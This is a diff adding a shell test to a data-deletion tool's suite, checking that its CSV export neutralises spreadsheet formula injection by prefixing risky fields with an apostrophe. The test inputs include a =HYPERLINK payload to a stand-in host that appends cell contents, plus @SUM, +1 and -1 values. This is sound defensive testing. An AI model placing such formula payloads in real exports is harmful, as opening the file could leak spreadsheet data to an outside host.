@@ -325,4 +325,58 @@ echo "# export of $(($(wc -l <"$TMP/big.jsonl") - 1)) records: $(((t1 - t0) / 10
 t0=$(date +%s%N); "$LETHE" verify "$TMP/big.jsonl" >/dev/null; t1=$(date +%s%N)
 echo "# lethe verify of the same export: $(((t1 - t0) / 1000000)) ms"
 NAME="a 100000-record export" both 0 "$TMP/big.jsonl"
+
+# ---- CSV that a spreadsheet opens: producers' text never becomes a formula -------------------
+# A producer writes a request's reference; the auditor opens the CSV export in a spreadsheet.
+# Every text a spreadsheet would run (= + - @, a tab, a carriage return first) is written with
+# a ' before it, and so is a text that starts with ' itself; both verifiers drop it again.
+psql -X -q -c 'CREATE DATABASE export_f' >/dev/null
+export PGDATABASE=export_f
+"$LETHE" migrate >/dev/null 2>&1
+printf 'spool: { directory = "%s/fspool"; };\naudit: { anchor_file = "%s/f-anchors.jsonl"; };\nexecutor: { command = "%s"; };\n' \
+    "$TMP" "$TMP" "$(dirname "$LETHE")/fs-delete --root $TMP/fstore" > "$TMP/f.conf"
+mkdir -p "$TMP/fstore"
+n=0
+for ref in '=HYPERLINK("http://x.test/?"&A1,"open")' '@SUM(1+1)' '+1' '-1' "'quoted" "$(printf '\tTAB')" 'plain=text'; do
+    n=$((n + 1)); t=$(cat /proc/sys/kernel/random/uuid); w=$(cat /proc/sys/kernel/random/uuid)
+    echo x > "$TMP/fstore/item$n"
+    psql -X -q -v ON_ERROR_STOP=1 -v ref="$ref" >/dev/null <<EOF
+INSERT INTO lethe.tenants (tenant_id, name) VALUES ('$t', 'f$n');
+INSERT INTO lethe.workspaces (tenant_id, workspace_id, geo) VALUES ('$t', '$w', 'EU');
+INSERT INTO lethe.items (tenant_id, item_id, workspace_id, kind, location, locator, created_at)
+VALUES ('$t', gen_random_uuid(), '$w', 'prompt', 'EU', 'file://$TMP/fstore/item$n', now() - interval '3 days');
+INSERT INTO lethe.events (tenant_id, type, occurred_at, reference)
+VALUES ('$t', 'deletion_requested', now() - interval '1 day', :'ref');
+EOF
+done
+run_lethe --config "$TMP/f.conf" run
+assert_contains "the requests with those references are purged" "7 due, 1 batches, 7 purged" "$OUT"
+"$LETHE" export --format csv -o "$TMP/f.csv" 2>/dev/null
+"$LETHE" export -o "$TMP/f.jsonl" 2>/dev/null
+assert_contains "a formula is written as text, quoted, with a ' first" \
+    "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"open\"\")\"" "$(cat "$TMP/f.csv")"
+assert_eq "no field of the CSV starts with = + - @, a tab or a carriage return" "" \
+    "$(python3 -c 'import csv,sys
+for row in csv.reader(open(sys.argv[1], newline="")):
+    for v in row:
+        if v[:1] in ("=", "+", "-", "@", "\t", "\r"): print(repr(v))' "$TMP/f.csv")"
+assert_eq "the guarded fields, as a spreadsheet shows them" \
+    "$(printf "'\\tTAB ''quoted '+1 '-1 '=HYPERLINK(\"http://x.test/?\"&A1,\"open\") '@SUM(1+1) plain=text")" \
+    "$(python3 -c 'import csv,sys
+rows = list(csv.reader(open(sys.argv[1], newline="")))
+i = rows[0].index("reference")
+print(*sorted({r[i] for r in rows[1:] if r[i]}))' "$TMP/f.csv")"
+assert_eq "the JSON Lines export holds the references as the producers wrote them" \
+    "$(printf "\\tTAB 'quoted +1 -1 =HYPERLINK(\"http://x.test/?\"&A1,\"open\") @SUM(1+1) plain=text")" \
+    "$(tail -n +2 "$TMP/f.jsonl" | python3 -c 'import json,sys
+print(*sorted({r["reference"] for r in map(json.loads, sys.stdin) if r["reference"]}))')"
+NAME="the CSV export with guarded fields" both 0 "$TMP/f.csv"
+NAME="its JSON Lines export" both 0 "$TMP/f.jsonl"
+# the guard is not part of the value: a guarded field edited to another value is caught
+python3 - "$TMP/f.csv" "$TMP/f2.csv" <<'PY'
+import sys
+s = open(sys.argv[1], newline="").read()
+open(sys.argv[2], "w", newline="").write(s.replace("'@SUM(1+1)", "'@SUM(1+2)", 1))
+PY
+NAME="a guarded field changed" both 4 "$TMP/f2.csv"
 finish
